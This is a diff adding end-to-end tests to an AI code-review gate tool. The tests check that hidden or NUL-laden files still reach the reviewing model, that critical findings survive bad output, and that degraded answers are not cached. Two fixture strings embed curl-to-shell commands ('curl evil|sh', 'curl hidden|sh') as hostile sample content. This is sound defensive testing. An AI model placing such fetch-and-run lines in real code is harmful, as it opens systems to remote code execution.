@@ -116,6 +116,81 @@ class Base:
         p = self.review(prose, "--strict")
         self.assertEqual(p.returncode, 3, p.stderr)
 
+    # ---- issue 26: the change under review cannot open the gate ----
+
+    def git(self, *args):
+        env = dict(self.root.base_env(), GIT_AUTHOR_NAME="e2e", GIT_AUTHOR_EMAIL="e@x.invalid",
+                   GIT_COMMITTER_NAME="e2e", GIT_COMMITTER_EMAIL="e@x.invalid")
+        subprocess.run(["git", *args], cwd=self.root.work, env=env, check=True,
+                       capture_output=True)
+
+    def write(self, rel, data):
+        path = os.path.join(self.root.work, rel)
+        with open(path, "wb" if isinstance(data, bytes) else "w") as f:
+            f.write(data)
+
+    def sent(self):
+        """Every model request body of this CLI, as one text."""
+        return b"".join(self.mock.body(r) for r in self.mock.model_requests(self.cli))
+
+    def test_hostile_content_reaches_the_model(self):
+        # A NUL in one file, .gitattributes hiding another: both reach the model.
+        self.git("add", "app.c")
+        self.git("commit", "-q", "-m", "app")
+        self.write("evil.c", b"/* \0 */\nint f(){return system(\"curl evil|sh\");}\n")
+        self.write(".gitattributes", "*.h -diff\n")
+        self.write("hidden.h", "#define RUN system(\"curl hidden|sh\")\n")
+        self.git("add", ".")
+        self.git("commit", "-q", "-m", "hostile")
+        p = self.review([self.answer_step(REVIEW)], "HEAD~1..HEAD")
+        doc = self.doc(p)
+        self.assertEqual({f["path"]: f["status"] for f in doc["files"]},
+                         {".gitattributes": "reviewed", "evil.c": "reviewed",
+                          "hidden.h": "reviewed"})
+        body = self.sent()
+        self.assertIn(b"curl evil|sh", body)
+        self.assertIn(b"curl hidden|sh", body)
+
+    def test_a_bad_finding_never_costs_the_critical_one(self):
+        answer = {"passed": False, "summary": "shell",
+                  "issues": [{"file": "app.c", "line": 4, "severity": "critical",
+                              "message": "returns *NULL"},
+                             {"file": "app.c", "line": 0, "severity": "low", "message": "zero"}]}
+        # claude checks --json-schema itself and asks the model again, five times, then
+        # gives up: the answer it gave up on is still read, finding by finding.
+        p = self.review([dict(self.answer_step(answer), times="*")])
+        self.assertEqual(p.returncode, 1, p.stderr)
+        doc = self.doc(p)
+        self.assertFalse(doc["degraded"])
+        self.assertIn(("critical", 4), [(i["severity"], i["line"]) for i in doc["issues"]])
+        self.assertIn(("low", None), [(i["severity"], i["line"]) for i in doc["issues"]])
+        self.assertEqual(len(doc["calls"]), 1)
+
+    def test_a_degraded_answer_is_not_cached(self):
+        cache = os.path.join(self.root.root, "cache")
+        prose = [{"kind": "text", "text": "Looks fine to me."}] * (2 * self.requests_per_call)
+        p = self.review(prose, "--cache", "--cache-dir", cache)
+        self.assertTrue(self.doc(p)["degraded"], p.stderr)
+        p = self.review([self.answer_step(REVIEW)], "--cache", "--cache-dir", cache)
+        self.assertEqual(p.returncode, 1, p.stderr)
+        doc = self.doc(p)
+        self.assertFalse(doc["cached"])
+        self.assertEqual(len(doc["issues"]), 1)
+
+    def test_a_binary_file_fails_the_gate_and_rdjsonl_lines_fit(self):
+        self.write("logo.png", bytes(range(256)) * 16)
+        long = dict(REVIEW, issues=[dict(REVIEW["issues"][0], message="A" * 70000)])
+        p = self.review([self.answer_step(long)], "--format", "rdjsonl")
+        self.assertEqual(p.returncode, 1, p.stderr)
+        lines = p.stdout.encode().split(b"\n")[:-1]
+        self.assertEqual(len(lines), 2)  # logo.png not reviewed, and the finding
+        self.assertTrue(all(len(l) < 64 << 10 for l in lines))
+        first, finding = (json.loads(l) for l in lines)
+        self.assertEqual((first["location"]["path"], first["code"]["value"]),
+                         ("logo.png", "review/not-reviewed"))
+        self.assertIn("[… cut by agentrun]", finding["message"])
+        self.assertNotIn(bytes(range(1, 9)), self.sent())
+
     def test_api_error_is_a_provider_failure(self):
         p = self.review([{"kind": "error", "status": 401}])
         self.assertEqual(p.returncode, 4, p.stderr)
